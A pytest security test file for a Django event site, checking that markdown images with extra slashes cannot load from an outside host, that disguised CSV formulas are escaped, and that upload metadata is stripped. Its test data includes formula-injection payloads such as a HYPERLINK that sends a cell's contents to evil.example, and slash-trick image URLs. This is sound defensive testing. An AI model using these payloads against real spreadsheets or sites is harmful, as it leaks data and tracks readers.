"""The attacker's sixth round against what the site writes out: images that a browser fetches
from another host although the page's own check saw a path, spreadsheet cells that are formulas
in disguise, and the metadata of an upload in every image made from it."""

import csv
import io
import re
from html.parser import HTMLParser

import pytest
import time_machine
from django.core.files.storage import default_storage
from django.test import Client
from PIL import Image, ImageCms, PngImagePlugin

from tests.content.factories import PageFactory
from tests.security.world import NOW, build_world
from tests.signups.factories import SignupFactory
from turnout.content.markdown import render_markdown
from turnout.covers import services as covers
from turnout.web.spreadsheets import csv_text

pytestmark = pytest.mark.django_db

# -- an image another host serves, written as a path -------------------------------------------


def _browser_host(src: str) -> str:
    """The host a browser on http://turnout.example/en/page/ fetches `src` from, by the
    WHATWG URL standard rather than by `urlsplit`: tabs and line breaks are dropped, a
    backslash is a slash, and after "//" any further slashes are skipped."""
    address = re.sub(r"[\t\n\r]", "", src).strip().replace("\\", "/")
    if re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", address):
        scheme, _, rest = address.partition(":")
        if scheme.lower() not in {"http", "https"}:
            return scheme.lower()
        return rest.lstrip("/").split("/", 1)[0].rpartition("@")[2].lower()
    if address.startswith("//"):
        return address.lstrip("/").split("/", 1)[0].rpartition("@")[2].lower()
    return "turnout.example"


def _image_sources(html: str) -> list[str]:
    found: list[str] = []

    class Images(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag == "img":
                found.extend(value for name, value in attrs if name == "src" and value)

    Images().feed(html)
    return found


@pytest.mark.parametrize(
    "source",
    [
        "![Demo](///evil.example/pixel.png)",
        "![Demo](////evil.example/pixel.png)",
        "![Demo][kaart]\n\n[kaart]: ///evil.example/pixel.png",
        "Voor [![Demo](///evil.example/pixel.png)](https://turnout.example/en/)",
        "| Foto |\n|---|\n| ![Demo](///evil.example/pixel.png) |",
    ],
)
def test_an_image_with_extra_slashes_is_a_link_not_a_fetch_from_another_host(settings, source):
    """Browsers read "///evil.example/x" as evil.example's, where Python's urlsplit sees a
    path on this site: the image would load from a stranger before any consent."""
    settings.SITE_URL = "http://turnout.example"
    html = str(render_markdown(source))
    assert [_browser_host(src) for src in _image_sources(html)] in ([], ["turnout.example"]), html
    assert "evil.example" in html  # still there, as a link the reader may follow


def test_an_image_on_this_site_stays_an_image(settings):
    settings.SITE_URL = "http://turnout.example"
    html = str(render_markdown("![Spandoek](/media/photos/spandoek.webp)"))
    assert _image_sources(html) == ["/media/photos/spandoek.webp"]


@pytest.mark.parametrize(
    "image", ["///evil.example/kop.png", "/\\evil.example/kop.png", "/\t/evil.example/kop.png"]
)
def test_a_pages_header_image_from_another_host_is_left_out(client, settings, image):
    settings.SITE_URL = "http://testserver"
    PageFactory(
        slug="waarom",
        source=f"---\ntitle: Waarom we marcheren\nimage: '{image}'\n---\n\nOmdat het moet.\n",
    )
    response = client.get("/en/waarom/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Omdat het moet." in html
    assert all(_browser_host(src) == "turnout.example" for src in _image_sources(html)), html


# -- formulas in disguise ----------------------------------------------------------------------

DISGUISED = [
    '＝HYPERLINK("https://evil.example/?"&A2,"Klik")',  # full-width equals sign
    "﹦1+1",  # the small form
    "＋31 6 1234 5678",
    "－2+3",
    "＠SUM(A1:A9)",
    ' =HYPERLINK("https://evil.example")',  # a blank a trimming import drops
    "\u00a0=1+1",  # a no-break space
    "\n=1+1",
    "\u200b=1+1",  # a zero-width space
    "\ufeff@SUM(A1)",  # a byte order mark
]


def _cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("value", DISGUISED)
def test_a_disguised_formula_is_written_as_text(value):
    (cell,) = _cells_of(csv_text(["name"], [[value]]))[1:]
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["Ada;＝1+1", "Ada; \u200b=1+1", "Ada;\u3000@SUM(A1)"])
def test_a_disguised_formula_after_a_semicolon_is_written_as_text(value):
    (cell,) = _cells_of(csv_text(["name"], [[value]]))[1:]
    head, _, tail = cell.partition(";")
    assert tail.startswith("'"), cell


@pytest.mark.parametrize("value", ["Anne-Marie", "Ｍａｒｉｅ", "  Jan", "50% = half", "Zoë"])
def test_text_that_is_no_formula_is_written_as_typed(value):
    (cell,) = _cells_of(csv_text(["name"], [[value]]))[1:]
    assert cell == value


def test_the_attendee_export_writes_every_disguise_as_text(client):
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        # Stored as the site keeps a name (blanks around it dropped): each still a disguise.
        stored = [
            SignupFactory(event=world.event, name=name, email=f"p{number}@voorbeeld.nl").name
            for number, name in enumerate(DISGUISED)
        ]
        client.force_login(world.coordinator)
        response = client.get(f"/en/signups/events/{world.event.pk}/attendees.csv")
    assert response.status_code == 200
    cells = _cells_of(response.content.decode("utf-8-sig"))
    for name in stored:
        assert "'" + name in cells, name
        assert name not in cells, name


# -- metadata in every image made from an upload -----------------------------------------------

MARK = b"Qzx7Meta"  # in every kind of metadata of the upload, and nowhere in its pixels
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Qzx7Meta"/></rdf:RDF></x:xmpmeta>'
)


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Qzx7Meta"  # camera make
    exif[0x8825] = {1: "N", 2: (52.0, 5.0, 12.0), 3: "E", 4: (5.0, 7.0, 1.0)}  # GPS
    return exif.tobytes()


def _tagged_jpeg() -> bytes:
    """EXIF with GPS, XMP, a comment, an ICC profile and an IPTC block (Photoshop's APP13)."""
    image = Image.new("RGB", (800, 450), (200, 40, 40))
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=_exif(), icc_profile=profile, comment=b"Qzx7Meta note", xmp=XMP)
    data = buffer.getvalue()
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x0c\x1c\x02\x50\x00\x08Qzx7Meta"
    segment = b"\xff\xed" + (len(iptc) + 2).to_bytes(2, "big") + iptc
    return data[:2] + segment + data[2:]


def _tagged_png() -> bytes:
    """Text chunks (plain, compressed, international with XMP) and an eXIf chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Qzx7Meta")
    info.add_text("Comment", "Qzx7Meta " * 4, zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    buffer = io.BytesIO()
    Image.new("RGBA", (800, 450), (40, 40, 200, 255)).save(
        buffer, "PNG", pnginfo=info, exif=_exif()
    )
    return buffer.getvalue()


def _tagged_webp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (800, 450), (40, 200, 40)).save(buffer, "WEBP", exif=_exif(), xmp=XMP)
    return buffer.getvalue()


@pytest.mark.parametrize("upload", [_tagged_jpeg, _tagged_png, _tagged_webp])
def test_a_covers_metadata_reaches_no_stored_file_and_no_share_card(upload):
    data = upload()
    assert MARK in data  # the upload carries it, in each of its kinds of metadata
    with time_machine.travel(NOW, tick=False):
        world = build_world()
        cover = covers.set_cover(
            subject=world.event,
            actor=world.coordinator,
            alt_text="Mensen met spandoeken op de Neude",
            upload=covers.Upload("omslag", data),
        )
        card = Client().get(f"/en/cards/events/{world.event.pk}.png")
    assert card.status_code == 200
    names = [cover.original, cover.email_file, *(item["name"] for item in cover.renditions)]
    written = {name: default_storage.open(name).read() for name in names}
    written["share card"] = b"".join(card) if card.streaming else card.content
    for name, blob in written.items():
        assert MARK not in blob, name
        image = Image.open(io.BytesIO(blob))
        assert not image.getexif(), name
        assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Author", "photoshop"} & set(
            image.info
        ), (name, image.info.keys())
